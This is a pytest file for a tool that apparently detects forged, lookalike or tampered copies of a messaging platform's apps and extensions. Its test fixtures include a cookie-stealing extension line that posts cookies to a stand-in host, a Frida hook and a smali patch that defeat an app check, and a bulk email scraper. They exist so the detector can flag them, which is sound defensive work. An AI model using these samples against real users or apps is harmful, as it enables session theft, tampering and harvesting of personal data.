"""Whose app a package is: by its id, its signature over this very file, and its name."""

from __future__ import annotations

import time
from collections.abc import Callable

import build as b
import pytest

from tutela.extract.files.apps import likeness, name_likeness
from tutela.extract.files.signing import detached_certificate
from tutela.extract.files.walk import Inspection

Read = Callable[..., Inspection]


def _names(found: Inspection) -> set[str]:
    return {s.name for s in found.extract.signals if s.confidence >= 0.7}


@pytest.mark.parametrize("schemes", [("v1",), ("v2",), ("v3",), ("v3.1",), ("v1", "v2"), ("v1", "v2", "v3")])
def test_the_platforms_own_app_passes_by_every_scheme(schemes: tuple[str, ...], read: Read, key: b.Key) -> None:
    assert not read(b.apk("com.murmura.app", key, schemes), "a.apk").extract.signals


@pytest.mark.parametrize("schemes", [("v1",), ("v2",), ("v3",), ("v3.1",)])
def test_the_platforms_id_under_another_key_is_foreign(schemes: tuple[str, ...], read: Read) -> None:
    assert "app.foreign_signature" in _names(read(b.apk("com.murmura.app", b.Key(), schemes), "a.apk"))


def test_the_platforms_id_without_a_signature_is_foreign(read: Read) -> None:
    assert "app.foreign_signature" in _names(read(b.apk("com.murmura.app"), "a.apk"))


@pytest.mark.parametrize("schemes", [("v1",), ("v2",), ("v3",)])
def test_the_platforms_app_changed_after_signing_is_modified(schemes: tuple[str, ...], read: Read, key: b.Key) -> None:
    genuine = b.apk("com.murmura.app", key, schemes, more={"assets/a.bin": b"\0" * 50})
    other = b.apk("com.murmura.app", key, schemes, more={"assets/a.bin": b"\1" * 50})
    if schemes == ("v1",):
        dex, changed = b"dex\n035\0" + b"\0" * 200, b"dex\n035\0" + b"\1" * 200
        other = b.zipped({n: changed if d == dex else d for n, d in _members(genuine).items()})
        assert "app.modified" in _names(read(other, "a.apk"))
        return
    # The signing block of one build behind the members of another.
    begin, end = genuine.find(b"APK Sig Block 42"), other.find(b"APK Sig Block 42")
    assert begin > 0
    assert end > 0
    mixed = bytearray(genuine)
    mixed[40] ^= 0x10
    assert "app.modified" in _names(read(bytes(mixed), "a.apk"))


def _members(data: bytes) -> dict[str, bytes]:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_copied_certificate_without_its_key_does_not_count(read: Read, key: b.Key) -> None:
    thief = b.Key()
    thief.der, thief.certificate = key.der, key.certificate
    names = _names(read(b.apk("com.murmura.app", thief, ("v2",)), "a.apk"))
    assert names & {"app.modified", "app.foreign_signature"}


def test_a_lookalike_id_and_name_are_found_and_others_are_left_alone(read: Read) -> None:
    other = b.Key("ec")
    assert "app.lookalike" in _names(read(b.apk("com.murmura.app.plus", other, label="Murmura Plus"), "a.apk"))
    assert "app.lookalike" in _names(read(b.apk("com.rnurmura.app", other, label="Chat"), "a.apk"))
    assert not read(b.apk("org.example.notes", other, label="Notes"), "a.apk").extract.signals
    assert not _names(read(b.apk("org.example.widget", other, label="Statistics for Murmura"), "a.apk"))


def test_a_modifying_framework_in_the_platforms_app_is_named(read: Read, key: b.Key) -> None:
    found = read(b.apk("com.murmura.app", b.Key("ec"), more={"lib/arm64-v8a/libfrida-gadget.so": b.elf()}), "a.apk")
    assert "app.modified" in _names(found)


def test_apple_packages_are_judged_by_certificate_and_team(read: Read, key: b.Key) -> None:
    assert "app.foreign_signature" in _names(read(b.ipa("com.murmura.app", certificate=b.Key("ec").der), "a.ipa"))
    assert not read(b.ipa("com.murmura.app", certificate=key.der), "a.ipa").extract.signals
    assert not read(b.ipa("org.example.notes", "Notes"), "a.ipa").extract.signals
    tweaked = b.ipa("com.murmura.app", certificate=key.der, more={"Payload/Chat.app/Frameworks/CydiaSubstrate": b"x"})
    assert "app.modified" in _names(read(tweaked, "a.ipa"))


def test_extensions_that_pass_for_the_platform_are_found(read: Read) -> None:
    found = read(b.crx(b'{"manifest_version":3,"name":"Murmura Premium Unlocker"}', b"k" * 90), "a.crx")
    assert "app.lookalike" in _names(found)
    assert not read(b.crx(b'{"manifest_version":3,"name":"Dark Reader Mode"}', b"k" * 90), "a.crx").extract.signals


def test_extension_that_takes_cookies_is_a_stealer(read: Read) -> None:
    script = (
        b'chrome.cookies.getAll({}, c => fetch("https://files.invalid/c", {method:"POST", body: JSON.stringify(c)}))'
    )
    found = read(
        b.crx(b'{"manifest_version":3,"name":"Weather","permissions":["cookies"]}', b"k", {"bg.js": script}), "a.crx"
    )
    assert "file.stealer" in _names(found)


def test_v4_signature_file_names_its_certificate(key: b.Key) -> None:
    assert detached_certificate(b.idsig(key)) == key.sha256
    assert detached_certificate(b"\x02\0\0\0\xff") == ""


def test_decompiled_trees_patches_and_hooks_of_the_platform_are_found(read: Read) -> None:
    smali = b".class public Lcom/murmura/app/Main;\n.super Ljava/lang/Object;\n.method public a()V\n    return-void\n.end method\n"
    assert "source.decompiled" in _names(read(smali, "Main.smali"))
    tree = b.zipped({"smali/com/murmura/app/Main.smali": smali, "apktool.yml": b"version: 2"})
    assert "source.decompiled" in _names(read(tree, "src.zip"))
    java = b"package com.murmura.app;\n/* renamed from: a */\npublic class Main { }\n"
    assert "source.decompiled" in _names(read(java, "Main.java"))
    patch = b"--- a/smali/com/murmura/app/Ads.smali\n+++ b/smali/com/murmura/app/Ads.smali\n@@ -1 +1 @@\n-    const/4 v0, 0x1\n+    const/4 v0, 0x0\n"
    assert "app.modified" in _names(read(patch, "a.patch"))
    hook = b'Java.perform(function(){ var C = Java.use("com.murmura.app.Check"); C.ok.implementation = function(){ return true; } });'
    assert "app.modified" in _names(read(hook, "hook.js"))


def test_code_that_only_names_the_platforms_app_passes(read: Read) -> None:
    intent = b'import android.content.Intent;\nIntent i = getPackageManager().getLaunchIntentForPackage("com.murmura.app");\n'
    assert not _names(read(intent, "Open.java"))
    other = b".class public Lorg/example/Main;\n.super Ljava/lang/Object;\n.method public a()V\n    return-void\n.end method\n"
    assert not _names(read(other, "Main.smali"))


def test_likeness_knows_the_usual_tricks() -> None:
    assert likeness("com.murmura.app.mod", "com.murmura.app") > 0.8
    assert likeness("com.murrnura.app", "com.murmura.app") > 0.8
    assert likeness("org.example.app", "com.murmura.app") == 0.0
    assert name_likeness("Murmura", "Murmura") > 0.8
    assert name_likeness("Notes", "Murmura") == 0.0


def test_an_app_is_judged_in_twenty_milliseconds(read: Read, key: b.Key) -> None:
    import random

    data = b.apk("com.murmura.app", key, ("v1", "v2", "v3"), more={"assets/a.bin": random.Random(3).randbytes(2 << 20)})
    read(data, "a.apk")
    began = time.process_time()
    for _ in range(5):
        read(data, "a.apk")
    assert (time.process_time() - began) / 5 < 0.1  # the figure itself is measured on a quiet machine, by bench/files


def test_a_program_that_collects_people_in_bulk_is_found_and_a_client_of_the_api_is_not(read: Read) -> None:
    collector = b'import requests\nfor u in users:\n    r = requests.get("https://murmura.com/@" + u, proxies=next(p))\n    out.writerow([email(r.text)])\n'
    assert "file.collector" in _names(read(collector, "go.py"))
    client = b'import requests\nprint(requests.get("https://api.murmura.com/v1/me", headers=h).json()["name"])\n'
    assert not _names(read(client, "me.py"))
